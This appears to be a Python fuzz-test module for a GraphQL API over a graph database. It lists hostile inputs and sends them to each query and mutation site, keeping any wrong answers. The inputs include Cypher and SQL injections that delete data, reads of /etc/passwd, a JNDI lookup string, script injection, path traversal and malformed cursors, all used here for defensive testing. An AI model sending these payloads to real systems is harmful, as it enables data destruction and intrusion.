"""Hostile strings: injections, odd and huge texts, broken global ids and cursors; which of them each site gets;
and the barrage that sends them and keeps every wrong answer (tests/api/fuzz_answers.py)."""

from __future__ import annotations

import base64
import dataclasses
import json
import re
import time
from dataclasses import dataclass
from typing import Any

from starlette.testclient import TestClient

from tests.api.fuzz_answers import check, post
from tests.api.fuzz_sites import Site


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def b64url(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode()


INJECTION = "' OR 1=1 //"
TEXTS: tuple[str, ...] = (
    INJECTION,
    '" OR ""="',
    '"}) MATCH (n) DETACH DELETE n //',
    "'}) MATCH (n) DETACH DELETE n RETURN 1 //",
    "x') WITH 1 AS x MATCH (n) DETACH DELETE n //",
    "`",
    "``) DETACH DELETE n //",
    "Grid`) MATCH (n) DETACH DELETE n //",
    "$param",
    "$p1",
    "{}",
    "{",
    "}]})",
    "[]",
    "null",
    "\u0000",
    "a\u0000b",
    "x" * 100_000,  # past the body limit: refused at the edge
    "x" * 90_000,
    "y" * 3_000,
    "字" * 20_000,
    "😀👨‍👩‍👧‍👦🏳️‍🌈",
    "\u202eevil\u202c",
    "\u200f\u200e\u200b\ufeff",
    "*:* AND ~",
    'name:* OR id:"x"~2 AND -(a) +b^3 [* TO *] {a TO z} /.*/ \\',
    "(?i).*",
    ".*",
    "%",
    "_",
    "\\",
    "\\'",
    "1; DROP TABLE users; --",
    "' UNION SELECT * FROM users --",
    '{"$gt": ""}',
    '{"id": {"eq": "x"}}',
    "CALL db.labels()",
    "CALL dbms.killQueries(['1'])",
    "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
    "\n\r\t",
    "line 1\nline 2",
    "ｍａｔｃｈ (ｎ) ｄｅｔａｃｈ ｄｅｌｅｔｅ ｎ",
    "\u0430dmin",  # Cyrillic а
    "𝐆𝐫𝐢𝐝",
    "",
    " ",
    "%s%s%s%n",
    "${jndi:ldap://example.invalid/a}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "Grid",
    "Person",
    "IN_GRID",
    "-1",
    "9" * 400,
    "NaN",
)
# Global ids and cursors: invalid base64, the right shape with hostile content, a wrong label, deep JSON.
IDS_AND_CURSORS: tuple[str, ...] = (
    "bm9wZTp4",
    "not base64!!",
    "====",
    "R3JpZDo=",
    b64("Grid:" + INJECTION),
    b64("Grid:" + "x" * 5000),
    b64("Nope:1"),
    b64("Person:\u0000"),
    b64(":"),
    "\u00ff\u00fe",
    b64url(json.dumps(["id", INJECTION, INJECTION])),
    b64url(json.dumps(["id", {"dt": "not a date"}, "x"])),
    b64url(json.dumps(["id", {"d": 5}, "x"])),
    b64url(json.dumps(["id", {"dt": "2024-01-01T00:00:00"}, 5])),
    b64url(json.dumps(["name", {"$gt": ""}, "x"])),
    b64url(json.dumps({"a": 1})),
    b64url("[" * 30_000 + "]" * 30_000),
    b64url('["id", 1e999, "x"]'),
    b64url("\u0000"),
    base64.urlsafe_b64encode(b"\xff\xfe\x00").decode(),
)
HOSTILE = TEXTS + IDS_AND_CURSORS
# Sent at every site; the rest of HOSTILE rotates over the sites.
CORE = (
    INJECTION,
    '"}) MATCH (n) DETACH DELETE n //',
    "``) DETACH DELETE n //",
    "$param",
    "\u0000",
    "x" * 90_000,
    "y" * 3_000,
    "*:* AND ~",
    "not base64!!",
    b64("Grid:" + INJECTION),
    b64url("[" * 30_000 + "]" * 30_000),
)
ROTATING = tuple(h for h in HOSTILE if h not in CORE)
CURSORS = (*IDS_AND_CURSORS, INJECTION, "")
# Lone surrogates are valid JSON escapes (\udcff) but no UTF-8 encodes them.
SURROGATES = ("\udcff", "a\ud800b")


@dataclass
class Barrage:
    """Sends hostile values to sites and keeps the first wrong answer per site and kind, so one run shows them all."""

    client: TestClient
    sent: int = 0
    problems: dict[str, str] = dataclasses.field(default_factory=dict)
    timings: list[tuple[float, str]] = dataclasses.field(default_factory=list)

    def send(self, site: Site, value: str) -> None:
        variables = site.variables(value)
        started = time.perf_counter()
        response = post(self.client, site.query, variables)
        self.timings.append((time.perf_counter() - started, f"{site.name} {value[:30]!r}"))
        self.sent += 1
        try:
            check(response, site.name, (value,))
        except AssertionError as failure:
            kind = re.search(r"error code '(\w+)'|HTTP \d+|'[^']+' reached the client", str(failure))
            self.problems.setdefault(
                f"{site.name} {kind.group(0) if kind else ''}",
                f"{site.name}: {str(failure).splitlines()[0][:300]}\n    {site.query}\n    variables: "
                f"{_short(variables)}\n    answer: {response.text[:300]}",
            )

    def slowest(self) -> str:
        kinds: dict[str, float] = {}
        for t, what in self.timings:
            kind = what.split(" ")[0].split(":")[-1] if ":" in what.split(" ")[0] else "args"
            kinds[kind] = kinds.get(kind, 0.0) + t
        top = "\n".join(f"{t:.2f} s {what}" for t, what in sorted(self.timings)[-10:])
        return f"{kinds}\n{top}"

    def verdict(self) -> str:
        return f"{len(self.problems)} wrong answers:\n" + "\n".join(sorted(self.problems.values()))


def _short(value: Any) -> str:
    text = json.dumps(value)
    return text if len(text) < 400 else f"{text[:250]}…{text[-80:]}"


def rotation(values: tuple[str, ...], index: int, count: int) -> tuple[str, ...]:
    """`count` of `values`, a different share for each site index."""
    start = index * count % len(values)
    return tuple(values[(start + k) % len(values)] for k in range(count))


def values_for(site: Site, index: int) -> tuple[str, ...]:
    """The hostile strings one site gets. Fields with code of their own get the most; the generated lists and the
    nested fields, which share cursor decoding and `where` compilation, a rotating share so that all get sent."""
    cursor = site.name.endswith(("(after)", "(before)"))
    if site.name.startswith("Mutation."):
        return rotation(CORE, index, 1) + rotation(ROTATING, index, 1)
    if not site.name.startswith("Query."):
        return rotation(CURSORS, index, 2) if cursor else rotation(CORE + ROTATING, index, 1)
    if "totalCount" not in site.query:
        return CORE + rotation(ROTATING, index, 9)
    if site.name.endswith("(after)"):
        return rotation(CURSORS, index, 6)
    if site.name.endswith(":all"):
        return rotation(CORE, index, 3) + rotation(ROTATING, index, 1)
    return rotation(CURSORS if cursor else CORE, index, 1) + rotation(CURSORS if cursor else ROTATING, index, 1)
